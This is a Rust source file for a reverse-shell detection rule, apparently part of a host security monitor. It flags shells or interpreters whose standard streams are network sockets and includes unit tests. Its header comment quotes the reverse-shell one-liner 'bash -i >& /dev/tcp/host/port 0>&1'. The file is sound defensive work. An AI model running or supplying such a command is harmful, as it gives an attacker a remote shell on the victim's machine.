//! `reverse_shell`: a shell or interpreter whose stdin, stdout or stderr is a network socket —
//! `bash -i >& /dev/tcp/host/port 0>&1` and its many cousins.
use std::ffi::OsStr;

use super::Finding;
use crate::{
    config::{Config, Rule},
    process::table::Process,
};

/// Command and Scripting Interpreter: Unix Shell.
pub const ATTACK: &str = "T1059.004";

/// Names of shells and interpreters (versioned names like `python3.11` match by prefix).
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish", "ash", "busybox",
];
const INTERPRETER_PREFIXES: &[&str] = &[
    "python", "perl", "ruby", "php", "lua", "node", "nodejs", "tclsh", "wish", "awk", "gawk",
    "mawk",
];

/// True for a shell or script interpreter, judged by executable (or comm) name.
pub fn is_shell_or_interpreter(name: &OsStr) -> bool {
    let Some(name) = name.to_str() else {
        return false;
    };
    SHELLS.contains(&name)
        || INTERPRETER_PREFIXES.iter().any(|p| {
            name.strip_prefix(p)
                .is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
        })
}

/// Fires when the process is a shell/interpreter and one of fds 0-2 is a network socket.
pub fn check(p: &Process, _cfg: &Config) -> Option<Finding> {
    let (fd, remote) = p.stdio_net.first()?;
    if !is_shell_or_interpreter(p.exe_name()) && !is_shell_or_interpreter(&p.name) {
        return None;
    }
    let peer = match remote {
        Some(r) => format!(" connected to {}:{}", r.addr, r.port),
        None => String::new(),
    };
    let fds: Vec<String> = p.stdio_net.iter().map(|(fd, _)| fd.to_string()).collect();
    Some(Finding {
        rule: Rule::ReverseShell,
        reason: format!(
            "{} has fd {} (of {}) on a network socket{peer}",
            p.exe_name().to_string_lossy(),
            fd,
            fds.join(",")
        ),
        attack: ATTACK,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{detect::testing::benign, process::table::ConnectFact};

    #[test]
    fn recognises_shells_and_interpreters() {
        for n in [
            "bash",
            "sh",
            "dash",
            "python3",
            "python3.11",
            "perl",
            "node",
            "busybox",
        ] {
            assert!(is_shell_or_interpreter(OsStr::new(n)), "{n}");
        }
        for n in ["sshd", "bashful", "python-config", "nginx"] {
            assert!(!is_shell_or_interpreter(OsStr::new(n)), "{n}");
        }
    }

    #[test]
    fn fires_for_shell_with_socket_stdio() {
        let mut p = benign();
        p.exe = Some("/usr/bin/bash".into());
        p.stdio_net = vec![
            (
                0,
                Some(ConnectFact {
                    addr: [127, 0, 0, 1].into(),
                    port: 4444,
                }),
            ),
            (1, None),
        ];
        let f = check(&p, &Config::default()).expect("fires");
        assert!(f.reason.contains("127.0.0.1:4444"), "{}", f.reason);
    }

    #[test]
    fn near_miss_non_shell_with_socket_or_shell_without() {
        let mut p = benign();
        p.stdio_net = vec![(0, None)];
        assert!(
            check(&p, &Config::default()).is_none(),
            "ls with a socket is not a shell"
        );
        let mut p = benign();
        p.exe = Some("/usr/bin/bash".into());
        assert!(check(&p, &Config::default()).is_none());
    }
}
